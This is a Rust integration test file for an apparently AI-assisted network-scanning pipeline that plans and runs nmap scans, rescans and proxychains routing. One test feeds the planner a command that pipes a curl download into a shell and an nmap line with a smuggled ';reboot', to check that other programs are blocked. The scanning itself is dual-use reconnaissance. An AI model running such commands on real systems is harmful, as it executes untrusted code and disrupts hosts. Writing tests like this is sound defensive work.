#![cfg(test)]
use std::path::Path;
use std::sync::Arc;

use scanai_common::config::Config;
use scanai_core::pipeline::{ANALYSIS_FILE, Phase, RESULTS_FILE, TargetPipeline, TargetStatus};
use scanai_core::runner::ProxyRoute;
use scanai_integration_tests::{config_in, Behavior, FakeAnalyzer, FakePlanner, FakeRunner};

struct Harness {
    runner: Arc<FakeRunner>,
    planner: Arc<FakePlanner>,
    analyzer: Arc<FakeAnalyzer>,
    pipeline: TargetPipeline,
}

fn harness(config: Config, runner: FakeRunner, planner: FakePlanner) -> Harness {
    let runner = Arc::new(runner);
    let planner = Arc::new(planner);
    let analyzer = Arc::new(FakeAnalyzer::default());
    let pipeline = TargetPipeline::new(
        Arc::new(config),
        runner.clone(),
        planner.clone(),
        analyzer.clone(),
    );
    Harness {
        runner,
        planner,
        analyzer,
        pipeline,
    }
}

fn entry_count(dir: &Path) -> usize {
    std::fs::read_dir(dir).map(|d| d.count()).unwrap_or(0)
}

/// Scenario A.
#[tokio::test]
async fn two_commands_then_one_rescan_completes() {
    let tmp = tempfile::tempdir().unwrap();
    let config = config_in(tmp.path());
    let output = config.output_dir.clone();
    let runner = FakeRunner::new()
        .on("-sV", Behavior::Open(vec![22, 80]))
        .on("-sn", Behavior::Open(vec![22]))
        .on("-p-", Behavior::Open(vec![80]));
    let h = harness(config, runner, FakePlanner::new().standard("192.168.0.1/24"));

    let run = h.pipeline.run("192.168.0.1/24").await;

    assert_eq!(run.status, TargetStatus::Completed);
    assert_eq!(run.phase, Phase::Done);
    assert_eq!(run.ports.to_port_list(), "22,80");
    assert_eq!(run.documents.len(), 3);
    assert_eq!(run.summary.as_deref(), Some("analysis of 3 documents"));

    let calls = h.runner.calls();
    assert_eq!(calls.len(), 3);
    let rescans: Vec<_> = calls.iter().filter(|c| c.command.contains("-sV")).collect();
    assert_eq!(rescans.len(), 1);
    assert_eq!(rescans[0].command, "nmap -sV -sC -p22,80 192.168.0.1/24");
    assert_eq!(calls.last().unwrap().command, rescans[0].command);

    let dir = output.join("192.168.0.1_24");
    assert_eq!(run.artifact_dir.as_deref(), Some(dir.as_path()));
    assert!(dir.join(RESULTS_FILE).is_file());
    assert!(dir.join(ANALYSIS_FILE).is_file());
    assert!(dir.join("scan_0.xml").is_file());
    assert!(dir.join("scan_1.xml").is_file());
    assert!(dir.join("service_scan.xml").is_file());
    assert_eq!(
        std::fs::read_to_string(dir.join(ANALYSIS_FILE)).unwrap(),
        "analysis of 3 documents"
    );
}

/// Scenario B.
#[tokio::test]
async fn invalid_target_has_no_side_effects() {
    let tmp = tempfile::tempdir().unwrap();
    let h = harness(config_in(tmp.path()), FakeRunner::new(), FakePlanner::new().standard("999.1.1.1/33"));

    let run = h.pipeline.run("999.1.1.1/33").await;

    assert_eq!(run.status, TargetStatus::SkippedInvalidTarget);
    assert_eq!(run.phase, Phase::Validate);
    assert!(h.runner.calls().is_empty());
    assert_eq!(h.planner.calls(), 0);
    assert_eq!(entry_count(tmp.path()), 0);
    assert!(run.artifact_dir.is_none());
}

/// Scenario C.
#[tokio::test]
async fn empty_plan_skips_target() {
    let tmp = tempfile::tempdir().unwrap();
    let h = harness(config_in(tmp.path()), FakeRunner::new(), FakePlanner::new());

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::SkippedNoCommands);
    assert_eq!(h.planner.calls(), 1);
    assert!(h.runner.calls().is_empty());
    assert_eq!(h.analyzer.calls(), 0);
    assert_eq!(entry_count(tmp.path()), 0);
}

#[tokio::test]
async fn nothing_open_is_a_clean_skip() {
    let tmp = tempfile::tempdir().unwrap();
    let h = harness(config_in(tmp.path()), FakeRunner::new(), FakePlanner::new().standard("10.0.0.0/24"));

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::SkippedNoPorts);
    assert!(run.status.is_success());
    assert!(run.ports.is_empty());
    assert_eq!(h.runner.calls().len(), 2);
    assert_eq!(h.analyzer.calls(), 0);
}

#[tokio::test]
async fn timeout_and_failure_do_not_stop_discovery() {
    let tmp = tempfile::tempdir().unwrap();
    let runner = FakeRunner::new()
        .on("-sn", Behavior::Timeout)
        .on("-F", Behavior::Fail("exited with exit status: 1"))
        .on("-sV", Behavior::Open(vec![443]))
        .on("-p-", Behavior::Open(vec![443]));
    let planner = FakePlanner::new().plan(
        "10.0.0.0/24",
        &["nmap -sn 10.0.0.0/24", "nmap -F 10.0.0.0/24", "nmap -p- 10.0.0.0/24"],
    );
    let h = harness(config_in(tmp.path()), runner, planner);

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::Completed);
    assert_eq!(run.failures.len(), 2);
    assert!(run.failures[0].reason.starts_with("timed out"));
    assert_eq!(run.failures[1].reason, "exited with exit status: 1");

    // The rescan is the fourth call, after every discovery command was attempted.
    let calls = h.runner.calls();
    assert_eq!(calls.len(), 4);
    assert_eq!(calls[3].command, "nmap -sV -sC -p443 10.0.0.0/24");
}

#[tokio::test]
async fn no_documents_at_all_fails_the_target() {
    let tmp = tempfile::tempdir().unwrap();
    let runner = FakeRunner::new().on("nmap", Behavior::Fail("host unreachable"));
    let h = harness(config_in(tmp.path()), runner, FakePlanner::new().standard("10.0.0.0/24"));

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::Failed("no results obtained".into()));
    assert_eq!(run.phase, Phase::Discover);
    assert_eq!(h.analyzer.calls(), 0);
}

#[tokio::test]
async fn failed_rescan_still_summarizes_discovery() {
    let tmp = tempfile::tempdir().unwrap();
    let runner = FakeRunner::new()
        .on("-sV", Behavior::Timeout)
        .on("nmap", Behavior::Open(vec![8080]));
    let h = harness(config_in(tmp.path()), runner, FakePlanner::new().standard("10.0.0.0/24"));

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::Completed);
    assert_eq!(run.summary.as_deref(), Some("analysis of 2 documents"));
    assert_eq!(run.failures.len(), 1);
}

#[tokio::test]
async fn planner_cannot_run_other_programs() {
    let tmp = tempfile::tempdir().unwrap();
    let planner = FakePlanner::new().plan(
        "10.0.0.0/24",
        &["bash -c 'curl x | sh'", "nmap -p- 10.0.0.0/24;reboot"],
    );
    let h = harness(config_in(tmp.path()), FakeRunner::new(), planner);

    let run = h.pipeline.run("10.0.0.0/24").await;

    let calls = h.runner.calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].command, "nmap -p- 10.0.0.0/24;reboot");
    assert_eq!(run.failures[0].command, "bash -c 'curl x | sh'");
    assert_eq!(run.status, TargetStatus::SkippedNoPorts);
}

#[tokio::test]
async fn proxy_route_reaches_every_command() {
    let tmp = tempfile::tempdir().unwrap();
    let route = ProxyRoute {
        wrapper: "proxychains4".into(),
        config_path: tmp.path().join("proxychains.conf"),
    };
    let runner = FakeRunner::new().on("nmap", Behavior::Open(vec![22]));
    let mut h = harness(config_in(tmp.path()), runner, FakePlanner::new().standard("10.0.0.0/24"));
    h.pipeline = h.pipeline.with_proxy(Some(route.clone()));

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.status, TargetStatus::Completed);
    let calls = h.runner.calls();
    assert_eq!(calls.len(), 3);
    assert!(calls.iter().all(|c| c.proxy.as_ref() == Some(&route)));
}

#[tokio::test]
async fn unwritable_output_fails_only_at_persist() {
    let tmp = tempfile::tempdir().unwrap();
    let config = config_in(tmp.path());
    let target_dir = config.output_dir.join("10.0.0.0_24");
    std::fs::create_dir_all(target_dir.join(RESULTS_FILE)).unwrap();
    let runner = FakeRunner::new().on("nmap", Behavior::Open(vec![22]));
    let h = harness(config, runner, FakePlanner::new().standard("10.0.0.0/24"));

    let run = h.pipeline.run("10.0.0.0/24").await;

    assert_eq!(run.phase, Phase::Persist);
    assert!(matches!(run.status, TargetStatus::Failed(_)), "{:?}", run.status);
    assert!(run.summary.is_some());
}
